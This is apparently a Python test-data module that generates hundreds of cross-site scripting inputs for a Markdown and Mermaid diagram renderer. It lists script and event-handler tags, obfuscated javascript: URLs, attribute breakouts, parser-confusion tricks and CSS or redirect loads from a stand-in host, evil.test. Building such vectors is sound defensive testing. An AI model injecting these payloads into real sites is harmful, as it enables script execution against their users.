"""Texts that try to become code: each fragment in each dress, more than five hundred."""

from collections.abc import Iterator
from itertools import product

# What runs or fetches, where a browser takes it for HTML. `window.hacked` is how a test would know.
_MARKUP = (
    "<script>hacked=1</script>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=hacked=1>",
    "<img src=https://evil.test/p.png>",
    "<svg onload=hacked=1>",
    "<svg><script>hacked=1</script></svg>",
    "<svg><animate onbegin=hacked=1 attributeName=x dur=1s>",
    "<body onload=hacked=1>",
    "<iframe src=javascript:hacked=1></iframe>",
    "<iframe srcdoc='<script>top.hacked=1</script>'></iframe>",
    "<object data=javascript:hacked=1></object>",
    "<embed src=//evil.test/x.swf>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'</style>",
    "<style>*{background:url(//evil.test/x)}</style>",
    "<math><mtext><img src=x onerror=hacked=1></mtext></math>",
    "<details open ontoggle=hacked=1>",
    "<video><source onerror=hacked=1></video>",
    "<audio src=x onerror=hacked=1>",
    "<input autofocus onfocus=hacked=1>",
    "<select autofocus onfocus=hacked=1>",
    "<marquee onstart=hacked=1>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><button autofocus>x</button></form>",
    "<a href=javascript:hacked=1>x</a>",
    "<template><script>hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
    "<!--><img src=x onerror=hacked=1>-->",
    "<![CDATA[><img src=x onerror=hacked=1>]]>",
    "</textarea><img src=x onerror=hacked=1>",
    "</title><img src=x onerror=hacked=1>",
)
_ADDRESSES = (
    "javascript:hacked=1",
    "JaVaScRiPt:hacked=1",
    "javascript&colon;hacked=1",
    "&#106;avascript:hacked=1",
    "java&#x0A;script:hacked=1",
    "\x01javascript:hacked=1",
    "vbscript:hacked=1",
    "data:text/html,<script>hacked=1</script>",
    "data:image/svg+xml,<svg onload=hacked=1>",
    "https://evil.test/p.png",
    "//evil.test/p.png",
    "/\\evil.test/p.png",
    'x" onerror="hacked=1',
    "x' onmouseover='hacked=1",
)
_DRESSES = (
    "{}",
    "字{}字",
    "**{}**",
    "# {}",
    "- {}",
    "> {}",
    "| a |\n|---|\n| {} |",
    "`{}`",
    "```html\n{}\n```",
    "```{}\ncode\n```",
    "$${}$$",
    "[{}](/)",
    "![{}](/x)",
    "a\n\n{}\n\nb",
)
_LINKS = (
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x][1]\n\n[1]: {}",
    '[x](/ "{}")',
    "$\\href{{{}}}{{x}}$",
    "$\\includegraphics{{{}}}$",
)


def vectors() -> Iterator[str]:
    """Every text."""
    yield from (dress.format(markup) for markup, dress in product(_MARKUP, _DRESSES))
    yield from (link.format(address) for address, link in product(_ADDRESSES, _LINKS))


# Sources of diagrams that try the same on who draws them: labels, links, directives, styles, names.
_DIAGRAMS = (
    "graph TD\n  A[{}] --> B",
    'graph TD\n  A["{}"] -->|"{}"| B',
    'graph TD\n  A --> B\n  click A "{}" "{}"',
    "graph TD\n  A --> B\n  click A call hacked({})",
    "graph TD\n  A --> B\n  style A fill:url({})",
    'graph TD\n  A@{{ img: "{}", label: "x", w: 60, h: 60 }}',
    'sequenceDiagram\n  A->>B: {}\n  Note over A: <br/>{}\n  links A: {{"x": "{}"}}',
    '%%{{init: {{"securityLevel": "loose", "htmlLabels": true}}}}%%\ngraph TD\n  A["{}"] --> B',
    '%%{{init: {{"themeCSS": "*{{{{background:url({})}}}}"}}}}%%\ngraph TD\n  A --> B',
    '---\ntitle: "{}"\nconfig:\n  securityLevel: loose\n---\ngraph TD\n  A --> B',
    '---\nconfig:\n  fontFamily: "x}}*{{background:url({})"\n---\ngraph TD\n  A --> B',
    'pie title {}\n  "{}" : 1',
    'classDiagram\n  class A {{\n    {}\n  }}\n  link A "{}"',
)
_IN_DIAGRAMS = (
    "<img src=x onerror=hacked=1>",
    "<script>hacked=1</script>",
    "<svg onload=hacked=1>",
    "<foreignObject><iframe srcdoc='<script>top.hacked=1</script>'></iframe></foreignObject>",
    "javascript:top.hacked=1",
    "https://evil.test/p.png",
    "</style><script>top.hacked=1</script>",
)


def diagrams() -> Iterator[str]:
    """Every source of a diagram; some are not well-formed."""
    for frame, content in product(_DIAGRAMS, _IN_DIAGRAMS):
        yield frame.replace("{}", content).replace("{{", "{").replace("}}", "}")
